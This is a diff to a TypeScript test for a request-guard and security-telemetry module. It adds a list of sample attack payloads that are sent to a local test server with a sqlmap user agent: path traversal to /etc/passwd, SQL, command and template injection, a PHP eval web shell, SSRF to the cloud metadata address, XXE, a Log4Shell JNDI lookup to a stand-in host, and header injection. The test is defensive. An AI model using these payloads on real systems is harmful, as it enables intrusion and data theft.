@@ -11,6 +11,28 @@ import { createTestGuard } from "./testing/request-guard.ts";
 import { close, listen, send, until } from "./testing/requests.ts";
 import { createTestTelemetry } from "./testing/telemetry.ts";
 
+/** One value of each class of attack, but for scanners, which a user agent tells. */
+const ATTACKS = `/r?${[
+  "a=../../etc/passwd",
+  "b=<script>",
+  "c=;id;",
+  "d=1' or 1=1-- ",
+  "e=<?php eval($_GET[1]); ?>",
+  "f={{7*7}}",
+  "g[$ne]=1",
+  "h=http://169.254.169.254/latest/meta-data/",
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>',
+  "__proto__[admin]=1",
+  "i=${jndi:ldap://x.example/a}",
+  'j=O:8:"stdClass":1:{s:1:"a";i:2;}',
+  "k=x\r\nSet-Cookie: a=b",
+]
+  .map((pair) => {
+    const equals = pair.startsWith("<") ? -1 : pair.indexOf("=");
+    return `${encodeURIComponent(pair.slice(0, Math.max(equals, 0)))}=${encodeURIComponent(pair.slice(equals + 1))}`;
+  })
+  .join("&")}`;
+
 describe("names", () => {
   it("of everything emitted are those of semconv, and nothing carries more than is listed", async () => {
     const telemetry = createTestTelemetry({ eventsPerSecond: 40 });
@@ -38,14 +60,15 @@ describe("names", () => {
       security.honeytoken({ ...subject, name: "n" });
       security.outboundRequest({ ...subject, url: "http://127.0.0.1/", addressClass: "loopback", outcome: "failure" });
       security.agentToolCall({ ...subject, agent: "a", tool: "t", declaredTools: ["u"] });
-      response.writeHead(403).end();
+      response.writeHead(403, { "set-cookie": "sid=1" }).end();
     });
     const port = await listen(server);
     try {
-      await send(port, "/r?a=..%2F..%2Fetc%2Fpasswd&b=%3Cscript%3E&c=%3Bid%3B&d=1%27%20or%201%3D1--%20", {
+      await send(port, ATTACKS, {
         headers: { "user-agent": "sqlmap/1" },
       });
       await send(port, `/r?${Array.from({ length: 300 }, (_, index) => `p${index}=1`).join("&")}`);
+      await send(port, "/r", { method: "TRACE" });
       const decision: GuardDecision = {
         id: "d",
         action: "observe",
@@ -57,9 +80,14 @@ describe("names", () => {
       await send(port, "/r");
       decisions.replace([{ ...decision, action: "block" }]);
       for (let index = 0; index < 60; index++) await send(port, "/r");
-      await until(() => telemetry.events(EVENT.requestRefused).length === 3);
+      await until(() => telemetry.events(EVENT.requestRefused).length === 4);
       reporter.error(new Error("planted"));
       reporter.change("guardConnected", 1);
+      reporter.event(EVENT.serviceDegraded, "warn", {
+        [ATTR.serviceDegradation]: "memory_growth",
+        [ATTR.serviceMemoryGrowth]: 1,
+      });
+      reporter.count("serviceDegradations", { [ATTR.serviceDegradation]: "memory_growth" });
       reporter.change("guardOff", 1);
       reporter.count("guardUninformed");
       reporter.event(EVENT.authenticationWeakness, "warn", {
